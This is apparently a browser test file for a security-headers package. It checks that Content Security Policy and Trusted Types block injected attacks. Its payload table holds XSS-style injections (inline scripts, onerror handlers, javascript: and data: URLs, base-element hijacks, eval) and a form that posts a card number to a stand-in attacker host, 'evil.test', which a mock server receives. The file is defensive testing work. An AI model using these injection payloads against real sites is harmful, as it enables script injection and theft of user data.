import headers from '@portcullis/headers'
import { tlsServerOptions } from '@portcullis/https'
import Fastify, { type FastifyInstance, type FastifyRequest } from 'fastify'
import type { Page } from 'playwright-core'
import { beforeEach, describe, expect, it } from 'vitest'
import { emptyPages, openSites, type Site } from './sites.ts'

const OURS = 'https://page.shop.test'
const BARE = 'https://bare.shop.test'
const EVIL = 'https://evil.test'

const marked = 'window.ran = true'

/** What an attacker got into a page, and the directive that stops it. `nonce` is the page's own, for its own scripts. */
const attacks: Readonly<Record<string, (nonce: string) => string>> = {
  'inline-script': () => `<script>${marked}</script>`,
  'wrong-nonce': () => `<script nonce="AAAAAAAAAAAAAAAAAAAAAA==">${marked}</script>`,
  'event-handler': () => `<img src="/nothing" onerror="${marked}">`,
  'javascript-url': () => `<a id="go" href="javascript:${marked};void 0">Go</a>`,
  'frame-of-javascript': () => `<iframe src="javascript:parent.${marked.replace('window.', '')}"></iframe>`,
  'frame-of-markup': () => `<iframe srcdoc="<script>parent.ran = true</script>"></iframe>`,
  'foreign-script': () => `<script src="${EVIL}/script.js"></script>`,
  'script-as-data': () => `<script src="data:text/javascript,${marked}"></script>`,
  eval: (nonce) => `<script nonce="${nonce}">try { eval('${marked}') } catch {}</script>`,
  'eval-by-timer': (nonce) => `<script nonce="${nonce}">setTimeout('${marked}')</script>`,
  base: (nonce) => `<base href="${EVIL}/"><script nonce="${nonce}" src="script.js"></script>`,
  form: () => `<form action="${EVIL}/collect" method="post"><input name="card" value="4111"><button id="go"></form>`,
  // The page's own script, trusting the address: 'strict-dynamic' follows it, Trusted Types do not.
  gadget: (nonce) => `<script nonce="${nonce}">
    try {
      const script = document.createElement('script')
      script.src = '${EVIL}/script.js'
      document.head.append(script)
    } catch {}</script>`,
  'trusted-script': (nonce) => `<script nonce="${nonce}">
    const urls = trustedTypes.createPolicy('shop', { createScriptURL: (url) => new URL(url, location.origin).pathname })
    try { trustedTypes.createPolicy('other', {}) } catch {}
    const script = document.createElement('script')
    script.src = urls.createScriptURL('${EVIL}/script.js')
    document.head.append(script)</script>`,
  nothing: () => '',
}

type NonceOf = (request: FastifyRequest) => string | undefined

function publish(app: FastifyInstance, nonceOf: NonceOf, only: (policy: object) => object): FastifyInstance {
  const render = (request: FastifyRequest): string => {
    const { attack } = request.params as { attack: string }
    const nonce = nonceOf(request) ?? 'none'
    // The page's own script is the control: whatever stops the attack must let this one run.
    return `<!doctype html><meta charset="utf-8"><title>A page</title><script nonce="${nonce}">
      window.own = true
      window.violations = []
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violations.push(effectiveDirective))
      </script><body>${attacks[attack]?.(nonce) ?? ''}</body>`
  }
  app.get('/:attack', only({}), (request, reply) => reply.type('text/html').send(render(request)))
  const typed = { 'require-trusted-types-for': ["'script'"], 'trusted-types': ['shop'] }
  app.get('/typed/:attack', only({ contentSecurityPolicy: typed }), (request, reply) =>
    reply.type('text/html').send(render(request)),
  )
  const tried = { dangerouslyDisableContentSecurityPolicy: true, contentSecurityPolicyReportOnly: {} }
  app.get('/tried/:attack', only(tried), (request, reply) => reply.type('text/html').send(render(request)))
  app.get('/script.js', (_request, reply) => reply.type('text/javascript').send('window.ownFile = true'))
  return app
}

let collected = 0
beforeEach(() => {
  collected = 0
})

/** It serves its script to everybody, so that nothing but the page's policy keeps it out. */
const evil: Site = {
  hosts: ['evil.test'],
  app(pair) {
    const app = Fastify({ https: pair }) as unknown as FastifyInstance
    app.addContentTypeParser('application/x-www-form-urlencoded', (_request, _payload, done) => done(null))
    app.get('/script.js', (_request, reply) => {
      reply.type('text/javascript').header('cross-origin-resource-policy', 'cross-origin').send(marked)
    })
    app.post('/collect', (_request, reply) => {
      collected++
      reply.type('text/html').send('<script>window.ran = true</script>')
    })
    app.get('/framing', (request, reply) => {
      const { url } = request.query as { url: string }
      reply.type('text/html').send(`<!doctype html><iframe src="${url}"></iframe>`)
    })
    return app
  },
}

const { visit } = openSites([
  emptyPages('app.shop.test'),
  evil,
  {
    hosts: ['page.shop.test'],
    async app(pair) {
      const app = Fastify({ https: tlsServerOptions(pair) }) as unknown as FastifyInstance
      await app.register(headers, { profile: 'web' })
      return publish(
        app,
        (request) => request.security.cspNonce,
        (policy) => ({ config: { security: { headers: policy } } }),
      )
    },
  },
  {
    hosts: ['bare.shop.test'],
    app: (pair) =>
      publish(
        Fastify({ https: pair }) as unknown as FastifyInstance,
        () => undefined,
        () => ({}),
      ),
  },
])

const value = (page: Page, expression: string): Promise<unknown> => page.evaluate<unknown>(expression)

/** Not the driver's way of waiting, which asks the page to evaluate a string: the policy forbids it. */
const until = (page: Page, expression: string): Promise<void> =>
  expect.poll(() => value(page, expression), { timeout: 10_000 }).toBe(true)

async function open(url: string, before?: Page): Promise<Page> {
  const page = before ?? (await visit(url))
  if (page === before) await page.goto(url)
  // Not the driver's click, which waits for navigations that never come.
  await page.evaluate("setTimeout(() => document.querySelector('#go')?.click())")
  return page
}

/** The attack works on a page without a policy; on ours the directive stops it, and the page's own script runs. */
async function isStopped(attack: string, directive: string): Promise<Page> {
  const bare = await open(`${BARE}/${attack}`)
  await until(bare, 'window.ran === true')
  const ours = await open(`${OURS}/${attack}`, bare)
  await until(ours, 'violations.length > 0')
  expect(await value(ours, '({ own: window.own, ran: window.ran, violations })')).toEqual({
    own: true,
    ran: undefined,
    violations: expect.arrayContaining([directive]),
  })
  return ours
}

describe('the policy of a page', () => {
  it('lets the page work: its script by nonce, and what that one loads', async () => {
    const page = await visit(`${OURS}/nothing`)
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.src = '/script.js'
      document.head.append(script)
    })
    await until(page, 'window.ownFile === true')
    expect(await value(page, '[own, violations]')).toEqual([true, []])
  })

  it.each([
    ['inline-script', 'script-src-elem'],
    ['wrong-nonce', 'script-src-elem'],
    ['event-handler', 'script-src-attr'],
    ['javascript-url', 'script-src-elem'],
    ['frame-of-javascript', 'script-src-elem'],
    ['foreign-script', 'script-src-elem'],
    ['script-as-data', 'script-src-elem'],
    ['eval', 'script-src'],
    ['eval-by-timer', 'script-src'],
  ])('stops %s', async (attack, directive) => {
    await isStopped(attack, directive)
  })

  it('stops scripts in a frame that the page did not write', async () => {
    const bare = await open(`${BARE}/frame-of-markup`)
    await until(bare, 'window.ran === true')
    const ours = await open(`${OURS}/frame-of-markup`)
    // The frame is loaded, its script was skipped.
    expect(await value(ours, '[own, window.ran]')).toEqual([true, undefined])
    expect(await ours.frames()[1]?.locator('script').count()).toBe(1)
  })

  it('stops a base element from moving the script that follows it', async () => {
    const ours = await isStopped('base', 'base-uri')
    expect(await value(ours, 'window.ownFile')).toBe(true)
  })

  it('stops a form from being sent elsewhere', async () => {
    const bare = await open(`${BARE}/form`)
    await bare.waitForURL(`${EVIL}/collect`)
    expect(collected).toBe(1)
    const ours = await open(`${OURS}/form`)
    await until(ours, "violations.includes('form-action')")
    expect([ours.url(), collected]).toEqual([`${OURS}/form`, 1])
  })

  it('stops a foreign page from framing this one', async () => {
    const page = await visit(`${EVIL}/framing?url=${BARE}/nothing`)
    expect(await page.frames()[1]?.evaluate('window.own')).toBe(true)
    const said: string[] = []
    page.on('console', (line) => said.push(line.text()))
    await page.goto(`${EVIL}/framing?url=${OURS}/nothing`)
    await expect.poll(() => said.join()).toContain('frame-ancestors')
    expect(await page.frames()[1]?.evaluate('window.own')).toBeUndefined()
  })
})

describe('Trusted Types', () => {
  it('stop a script of the page from being led astray, which a nonce alone does not', async () => {
    const untyped = await open(`${OURS}/gadget`)
    await until(untyped, 'window.ran === true')
    const typed = await open(`${OURS}/typed/gadget`)
    await until(typed, 'violations.length > 0')
    expect(await value(typed, '[own, window.ran, violations]')).toEqual([
      true,
      undefined,
      ['require-trusted-types-for'],
    ])
  })

  it('let the policies of the list decide, and no other be made', async () => {
    const page = await open(`${OURS}/typed/trusted-script`)
    await until(page, 'window.ownFile === true')
    expect(await value(page, '[window.ran, violations]')).toEqual([undefined, ['trusted-types']])
  })
})

it('a policy that is tried out reports what it would stop, and stops nothing', async () => {
  const page = await open(`${OURS}/tried/inline-script`)
  await until(page, 'window.ran === true && violations.length > 0')
  expect(await value(page, 'violations')).toEqual(['script-src-elem'])
})
